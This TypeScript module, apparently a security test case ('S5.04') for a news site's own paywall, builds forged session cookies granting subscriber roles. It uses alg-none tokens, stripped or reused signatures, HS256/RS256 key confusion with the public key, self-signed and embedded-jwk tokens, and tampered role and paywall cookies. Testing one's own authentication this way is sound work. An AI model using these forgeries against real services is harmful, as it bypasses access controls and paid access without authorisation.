import { createSecretKey, generateKeyPairSync, randomUUID } from 'node:crypto'
import { decodeJwt, decodeProtectedHeader, SignJWT, UnsecuredJWT } from 'jose'
import { closedCookie } from '../site/closed-cookie.ts'

type Forgery = {
  /** A real id token of a reader without rights. */
  idToken: string
  /** The public key, which everyone may fetch. */
  publicPem: string
}

/** S5.04: returns Cookie headers with forged subscriber roles. */
export async function forgeSessions({ idToken, publicPem }: Forgery): Promise<string[]> {
  const claims = { ...decodeJwt(idToken), roles: ['PLUS_USER', 'EPAPER_USER', 'PLUS-TAG-102'] }
  const { kid } = decodeProtectedHeader(idToken)
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const secret = createSecretKey(Buffer.from(publicPem))
  const [head = '', , signature = ''] = idToken.split('.')
  const body = Buffer.from(JSON.stringify(claims)).toString('base64url')
  const jwk = { kty: 'oct', k: Buffer.from('own').toString('base64url') }
  const tokens = [
    new UnsecuredJWT(claims).encode(),
    `${Buffer.from('{"alg":"None","typ":"JWT"}').toString('base64url')}.${body}.`,
    `${head}.${body}.${signature}`,
    `${head}.${body}.`,
    await new SignJWT(claims)
      .setProtectedHeader({ alg: 'HS256', typ: 'JWT', ...(kid && { kid }) })
      .sign(secret),
    await new SignJWT(claims)
      .setProtectedHeader({ alg: 'RS256', typ: 'JWT', ...(kid && { kid }) })
      .sign(privateKey),
    await new SignJWT(claims)
      .setProtectedHeader({ alg: 'RS256', typ: 'JWT', kid: randomUUID() })
      .sign(privateKey),
    await new SignJWT(claims)
      .setProtectedHeader({ alg: 'RS256', typ: 'JWT', jwk })
      .sign(privateKey),
    'PLUS_USER',
    '',
  ]
  const cookies = tokens.map((token) => `${closedCookie('id_token')}=${token}`)
  return [
    ...cookies,
    'signed_in=1; cache_key=PLUS_USER%2CEPAPER_USER%7C%7Ctrue',
    `${cookies[0]}; cache_key=PLUS_USER`,
    'roles=PLUS_USER; plus=1; paywall=off',
  ]
}
